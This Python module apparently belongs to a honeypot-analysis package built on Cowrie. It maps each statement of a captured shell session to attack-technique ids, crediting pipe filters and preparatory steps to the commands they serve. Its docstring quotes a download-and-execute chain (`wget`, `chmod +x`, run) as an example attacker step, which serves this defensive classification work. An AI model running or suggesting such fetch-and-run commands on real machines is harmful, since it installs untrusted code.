"""Which techniques each statement of a session serves: those that it shows, else those of the passage it stands in.

`cat /proc/cpuinfo | grep name | wc -l` is one look at the processor, and `cd /tmp; wget x; chmod +x x; ./x` brings a
program and runs it: a filter belongs to what it is piped, and a step without a goal of its own to the next that has
one, else to the last.
"""

from collections.abc import Iterable, Sequence
from dataclasses import dataclass

from cowrie_assets.cowrie.invocation import SHELLS, Invocation, invocations
from cowrie_assets.cowrie.rule_table import Rule
from cowrie_assets.cowrie.techniques import TechniqueMatcher

_NONE: frozenset[str] = frozenset()


@dataclass(frozen=True, slots=True)
class Statement:
    """A part of a line, without what ends it."""

    text: str
    piped: bool
    """The next statement is given what it puts out."""


def techniques_of_statements(matcher: TechniqueMatcher, statements: Sequence[Statement]) -> list[frozenset[str]]:
    """The ids of the techniques that each of a session's statements serves, in order. Linear in all their text."""
    runs = _linked(statements)
    own = [frozenset(rule.technique for rule in rules) for rules in in_order(matcher.of_runs(some) for some in runs)]
    served: list[frozenset[str]] = []
    for pipe in _pipes(statements):
        goal = next((own[index] for index in pipe if own[index]), _NONE)
        served += [own[index] if own[index] and not _filters(matcher, index, pipe, runs) else goal for index in pipe]
    aimless = [not techniques and _prepares(matcher, some) for techniques, some in zip(served, runs, strict=True)]
    _lend(served, aimless, reversed(range(len(served))))
    _lend(served, aimless, range(len(served)))
    return served


def in_order(steps: Iterable[Sequence[Rule]]) -> list[tuple[Rule, ...]]:
    """What each of a session's steps matches, without the rules that only count behind other techniques (`after`)."""
    seen: set[str] = set()
    counted: list[tuple[Rule, ...]] = []
    for rules in steps:
        counted.append(tuple(rule for rule in rules if not rule.after or not seen.isdisjoint(rule.after)))
        seen.update(rule.technique for rule in rules)
    return counted


def _linked(statements: Sequence[Statement]) -> list[tuple[Invocation, ...]]:
    """The programs that each statement runs, with what takes their output where that stands in the next statement."""
    runs = [tuple(invocations(statement.text)) for statement in statements]
    for index in range(len(runs) - 2, -1, -1):
        if not statements[index].piped or not runs[index + 1]:
            continue
        target = runs[index + 1][0]
        into_shell = target.feeds_shell or target.program in SHELLS
        runs[index + 1] = (target._replace(fed=True), *runs[index + 1][1:])
        runs[index] = tuple(
            run._replace(feeds=run.feeds or target.program, feeds_shell=run.feeds_shell or into_shell)
            for run in runs[index]
        )
    return runs


def _pipes(statements: Sequence[Statement]) -> list[range]:
    """The statements of each pipe."""
    ends = [index + 1 for index, statement in enumerate(statements) if not statement.piped]
    if statements and (not ends or ends[-1] < len(statements)):
        ends.append(len(statements))
    return [range(first, end) for first, end in zip([0, *ends], ends, strict=False)]


def _filters(matcher: TechniqueMatcher, index: int, pipe: range, runs: Sequence[tuple[Invocation, ...]]) -> bool:
    return index > pipe.start and bool(runs[index]) and runs[index][0].program in matcher.filtering


def _prepares(matcher: TechniqueMatcher, runs: Sequence[Invocation]) -> bool:
    """Whether nothing that runs has a goal of its own."""
    return all(not run.program or run.program in matcher.preparing for run in runs)


def _lend(served: list[frozenset[str]], aimless: Sequence[bool], order: Iterable[int]) -> None:
    """Give those without a goal that of the last one met in `order`."""
    goal = _NONE
    for index in order:
        if served[index]:
            goal = served[index]
        elif aimless[index]:
            served[index] = goal
